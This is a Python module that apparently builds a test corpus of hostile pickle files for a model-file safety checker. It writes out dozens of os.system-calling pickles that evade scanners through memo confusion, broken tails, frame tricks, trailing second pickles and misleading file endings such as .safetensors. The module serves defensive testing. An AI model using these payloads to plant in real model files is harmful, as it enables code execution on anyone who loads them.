"""Ways in which a pickle can call, hide a call, or contradict itself: attacks on the machine that reads opcodes."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable

from attacks.assembling import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    built,
    call,
    framed,
    line,
    named,
    new,
    number,
    octets,
    pickled,
    plain,
    stacked,
    text,
)
from attacks.attack import DAMAGED, DANGEROUS, NEEDS_CODE, Attack, Corpus, Place
from perdure.errors import CorruptError, FormatError, LimitError, PerdureError, UnsafeError

Content = Callable[[Place], bytes]
_Row = tuple[str, str, str, bool, Content]


def _system(place: Place) -> bytes:
    return call("os:system", place.command)


CALLS: list[_Row] = [
    ("INST", "INST of protocol 0", "scanners that know only GLOBAL", True,
     lambda p: f"(S'{p.command}'\nios\nsystem\n.".encode()),
    ("INST", "INST in a dict", "scanners that know only GLOBAL", True,
     lambda p: f"(dS'w'\n(S'{p.command}'\nios\nsystem\ns.".encode()),
    ("OBJ", "OBJ", "scanners that know only REDUCE", True,
     lambda p: pickled(MARK + stacked("os", "system") + text(p.command) + OBJ)),
    ("NEWOBJ", "NEWOBJ_EX of map", "scanners that know only REDUCE", True,
     lambda p: pickled(call("builtins:list", stacked("builtins", "map")
                            + plain((stacked("os", "system"), [p.command])) + EMPTY_DICT + NEWOBJ_EX))),
    ("NEWOBJ", "NEWOBJ of a function", "an instance of what is no class", False,
     lambda p: pickled(stacked("os", "system") + plain((p.command,)) + NEWOBJ)),
    ("NEWOBJ", "NEWOBJ_EX with names of arguments", "CVE-free technique: keyword arguments", True,
     lambda p: pickled(stacked("functools", "partial") + plain((stacked("os", "system"),))
                       + plain({"command": p.command}) + NEWOBJ_EX + b")R")),
    ("BUILD", "BUILD calls __setstate__", "state that is code", True,
     lambda p: pickled(built(built(new("types:SimpleNamespace"), {"__setstate__": stacked("os", "system")}), p.command))),
    ("BUILD", "BUILD of a class", "namespaces that are changed", False,
     lambda p: pickled(stacked("torch.nn", "Module") + plain((None, {"__call__": stacked("os", "system")})) + BUILD)),
    ("EXT", "extension registered, then used", "names by number", True,
     lambda p: pickled(call("copyreg:add_extension", "os", "system", 240) + POP + b"\x82\xf0" + plain((p.command,))
                       + REDUCE)),
    ("memo", "names out of the memo", "picklescan, memo confusion", True,
     lambda p: pickled(text("os") + MEMOIZE + POP + text("system") + MEMOIZE + POP + text("collections") + b"q\x07"
                       + POP + b"h\0h\1" + STACK_GLOBAL + plain((p.command,)) + REDUCE)),
    ("memo", "a memo that is written twice", "picklescan, memo confusion", True,
     lambda p: pickled(text("OrderedDict") + b"q\0" + POP + text("system") + b"q\0" + POP + text("os") + b"h\0"
                       + STACK_GLOBAL + plain((p.command,)) + REDUCE)),
    ("memo", "PUT then MEMOIZE", "memo numbers that differ between readers", True,
     lambda p: pickled(text("collections") + b"q\1" + POP + text("os") + MEMOIZE + POP + text("system")
                       + b"r\x63\0\0\0" + POP + b"h\1" + b"j\x63\0\0\0" + STACK_GLOBAL + plain((p.command,)) + REDUCE)),
    ("memo", "a function kept for later", "memo confusion", True,
     lambda p: pickled(stacked("os", "system") + MEMOIZE + POP + plain({"w": 1}) + POP + b"h\0" + plain((p.command,))
                       + REDUCE)),
    ("memo", "names of text in pieces", "names that DUP puts together", True,
     lambda p: pickled(text("os") + DUP + POP + text("system") + STACK_GLOBAL + plain((p.command,)) + REDUCE)),
    ("memo", "names of other string opcodes", "picklescan, opcodes whose strings are not followed", True,
     lambda p: pickled(b"\x8c\x02os" + b"\x8d" + struct.pack("<Q", 6) + b"system" + STACK_GLOBAL + plain((p.command,))
                       + REDUCE)),
    ("memo", "names of unicode escapes", "names that are written otherwise", True,
     lambda p: pickled(b"Vo\\u0073\nVsys\\u0074em\n" + STACK_GLOBAL + plain((p.command,)) + REDUCE)),
    ("memo", "names with a mark between", "stack tricks", True,
     lambda p: pickled(text("os") + text("system") + MARK + plain([1, 2]) + b"1" + STACK_GLOBAL + plain((p.command,))
                       + REDUCE)),
    ("broken tail", "no STOP", "picklescan: a scan that fails where the load has run", True,
     lambda p: pickled(_system(p))[:-1]),
    ("broken tail", "unknown opcode", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + b"\xff" + STOP),
    ("broken tail", "stack underflow", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + POP * 5 + STOP),
    ("broken tail", "memo that is not there", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + b"h\x63" + STOP),
    ("broken tail", "text that is not UTF-8", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + b"X\x02\0\0\0\xff\xfe" + STOP),
    ("broken tail", "items set in a number", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + number(1) + text("a") + text("b") + SETITEM + STOP),
    ("broken tail", "length beyond the file", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + b"X\xff\xff\xff\x7fabc"),
    ("broken tail", "a key that cannot be one", "picklescan: a scan that fails where the load has run", True,
     lambda p: b"\x80\4" + _system(p) + EMPTY_DICT + EMPTY_LIST + number(1) + SETITEM + STOP),
    ("frame", "frame beyond the file", "picklescan: frames that do not fit", False,
     lambda p: b"\x80\4" + framed(_system(p) + STOP, 10**6)),
    ("frame", "frame that ends too soon", "picklescan: frames that do not fit", True,
     lambda p: b"\x80\4" + framed(_system(p)) + framed(b"N" + STOP, 1) + b"N" + STOP),
    ("frame", "frame within a frame", "picklescan: frames that do not fit", False,
     lambda p: b"\x80\4" + framed(framed(_system(p), 5) + STOP)),
    ("second pickle", "behind the first", "what follows STOP", False,
     lambda p: pickle.dumps({"weight": 1}) + pickled(_system(p))),
    ("second pickle", "behind one of protocol 0", "what follows STOP", False,
     lambda p: b"(dS'weight'\nI1\ns." + pickled(_system(p))),
    ("persistent id", "in a persistent id", "values that are made for a persistent id", True,
     lambda p: pickled(call("os:system", p.command) + BINPERSID)),
    ("persistent id", "instead of a type", "a function where a storage's type is expected", False,
     lambda p: pickled(plain(("storage", stacked("os", "system"), p.command, "cpu", 1)) + BINPERSID)),
    ("protocol", "protocol 1 without a beginning", "routing by the first byte", True,
     lambda p: b"}U\x01w" + named("os", "system") + b"U" + bytes([len(p.command)]) + p.command.encode() + b"\x85Rs."),
    ("protocol", "protocol number twice", "a protocol within the pickle", True,
     lambda p: b"\x80\2\x80\4" + _system(p) + STOP),
    ("protocol", "protocol 5 out-of-band buffer", "buffers that are not in the file", True,
     lambda p: b"\x80\5" + _system(p) + POP + b"\x97" + STOP),
    ("hidden call", "in the attributes of an OrderedDict", "state of allowed classes", True,
     lambda p: pickled(built(named("collections", "OrderedDict") + b")R", {"_metadata": _system(p)}))),
    ("hidden call", "as a key", "values at unusual places", True,
     lambda p: pickled(EMPTY_DICT + _system(p) + number(1) + SETITEM)),
    ("hidden call", "in a set", "values at unusual places", True,
     lambda p: pickled(EMPTY_SET + MARK + _system(p) + ADDITEMS)),
    ("hidden call", "in a frozenset", "values at unusual places", True, lambda p: pickled(MARK + _system(p) + b"\x91")),
    ("hidden call", "behind ten thousand values", "scanners that stop early", True,
     lambda p: pickled(EMPTY_LIST + MARK + b"K\1" * 10_000 + _system(p) + APPENDS)),
    ("hidden call", "behind a megabyte of bytes", "scanners that stop early", True,
     lambda p: pickled(octets(bytes(2**20)) + POP + _system(p))),
    ("hidden call", "thrown away with a mark", "results that are popped", True,
     lambda p: pickled(MARK + _system(p) + b"1" + plain({"epoch": 3}))),
    ("hidden call", "a benign call first", "scanners that look at the first name", True,
     lambda p: pickled(named("collections", "OrderedDict") + b")R" + POP + _system(p))),
    ("hidden call", "as an argument of an allowed call", "calls within calls", True,
     lambda p: pickled(call("collections:OrderedDict", [("a", _system(p))]))),
    ("line", "names with carriage returns", "names that are read otherwise", False,
     lambda p: b"cos\r\nsystem\r\n(" + line(p.command) + b"tR."),
    ("line", "protocol 0 with unicode escapes", "names that are read otherwise", True,
     lambda p: b"cos\nsystem\n(V" + "".join(f"\\u{ord(c):04x}" for c in p.command).encode() + b"\ntR."),
]  # fmt: skip

Errors = tuple[type[PerdureError], ...]

# Damage alone: nothing in them would run. class, name, content, verdicts, errors
CONFUSIONS: list[tuple[str, str, bytes, tuple[str, ...], Errors]] = [
    ("EXT", "EXT1 of an unknown number", pickled(b"\x82\x01)R"), (DANGEROUS,), (UnsafeError,)),
    ("EXT", "EXT4 of a negative number", pickled(b"\x84\xff\xff\xff\xff"), (DANGEROUS,), (UnsafeError,)),
    ("wrong type", "APPEND to a dict", pickled(EMPTY_DICT + number(1) + APPEND), (DAMAGED,), (CorruptError,)),
    ("wrong type", "SETITEM of a list (memory corruption in weights_only)",
     pickled(EMPTY_LIST + number(2**40) + number(1) + SETITEM), (DAMAGED,), (CorruptError,)),
    ("wrong type", "BUILD of a number", pickled(built(number(1), {"a": 1})), (DAMAGED,), (CorruptError,)),
    ("wrong type", "REDUCE of a number", pickled(number(1) + b")R"), (DAMAGED,), (CorruptError,)),
    ("wrong type", "REDUCE with a list", pickled(stacked("collections", "OrderedDict") + EMPTY_LIST + REDUCE),
     (DAMAGED,), (CorruptError,)),
    ("wrong type", "STACK_GLOBAL of numbers", pickled(number(1) + number(2) + STACK_GLOBAL), (DAMAGED,), (CorruptError,)),
    ("wrong type", "ADDITEMS to a list", pickled(EMPTY_LIST + MARK + number(1) + ADDITEMS), (DAMAGED,), (CorruptError,)),
    ("stack", "TUPLE without a mark", pickled(number(1) + TUPLE), (DAMAGED,), (CorruptError,)),
    ("stack", "STOP on an empty stack", pickled(b""), (DAMAGED,), (CorruptError,)),
    ("stack", "values left over", pickled(number(1) + number(2)), (DAMAGED, "safe"), (CorruptError,)),
    ("memo", "GET of nothing", pickled(b"h\0"), (DAMAGED,), (CorruptError,)),
    ("memo", "GET of a negative number", b"\x80\2g-1\n.", (DAMAGED,), (CorruptError,)),
    ("memo", "PUT of a huge number", b"\x80\2N" + b"p" + b"9" * 4000 + b"\n.", (DAMAGED, "safe"), ()),
    ("integer", "INT of four million digits", b"\x80\2I" + b"9" * 4_000_000 + b"\n.", (DAMAGED,), (CorruptError, LimitError)),
    ("integer", "LONG of four million digits", b"\x80\2L" + b"9" * 4_000_000 + b"L\n.", (DAMAGED,),
     (CorruptError, LimitError)),
    ("integer", "LONG1 of a negative length", b"\x80\2\x8b\xff\xff\xff\xff.", (DAMAGED,), (CorruptError,)),
    ("integer", "FLOAT that is none", b"\x80\2Fnought\n.", (DAMAGED,), (CorruptError,)),
    ("protocol", "protocol 6", pickled(plain({}), 6), (DAMAGED,), (FormatError, CorruptError)),
    ("protocol", "protocol 255", pickled(plain({}), 255), (DAMAGED,), (FormatError, CorruptError)),
    ("persistent id", "persistent id of nobody", pickled(text("x") + BINPERSID), (DAMAGED,), (CorruptError,)),
    ("unknown class", "an instance of nobody's class", pickled(new("nobody.models:Net") + plain({"a": 1}) + BUILD),
     (NEEDS_CODE,), ()),
]  # fmt: skip


_NEVER_REACHED = ("BUILD calls __setstate__", "instead of a type", "in a persistent id")
"""Reading ends before the call."""

ENDINGS = (".bin", ".pt", ".pth", ".ckpt", ".safetensors", ".npy", ".npz", ".gguf", ".h5", ".json", ".txt", "")


def add_to(corpus: Corpus) -> None:
    for group, name, after, live, content in CALLS:

        def write(place: Place, content: Content = content) -> object:
            return place.write("model.pt", content(place))

        runs = "pickle" if live else ""
        may_be_damaged = group in ("frame", "line", "second pickle") or name in _NEVER_REACHED
        error: Errors = (UnsafeError, CorruptError, FormatError) if may_be_damaged else (UnsafeError,)
        verdicts = (DANGEROUS, DAMAGED) if may_be_damaged else (DANGEROUS,)
        corpus.add(Attack(name, group, after, write, verdicts, error, runs))  # type: ignore[arg-type]
    for group, name, content_bytes, verdicts, errors in CONFUSIONS:

        def confuse(place: Place, content: bytes = content_bytes) -> object:
            return place.write("model.pt", content)

        after = "a pickle that contradicts itself"
        corpus.add(Attack(name, group, after, confuse, verdicts, errors))  # type: ignore[arg-type]
    for ending in ENDINGS:

        def misname(place: Place, ending: str = ending) -> object:
            return place.write(f"model{ending}", f"cos\nsystem\n(S'{place.command}'\ntR.".encode())

        after = "CVE-2025-1889, CVE-2025-10155 (picklescan): routing by the ending"
        name = f"text pickle called {ending or 'nothing'}"
        corpus.add(Attack(name, "ending", after, misname, runs="pickle"))  # type: ignore[arg-type]
        if ending in (".bin", ".safetensors", ".npz", ".gguf", ".json"):

            def misname_again(place: Place, ending: str = ending) -> object:
                return place.write(f"model{ending}", pickled(_system(place), 2))

            name = f"binary pickle called {ending}"
            corpus.add(Attack(name, "ending", after, misname_again, runs="pickle"))  # type: ignore[arg-type]
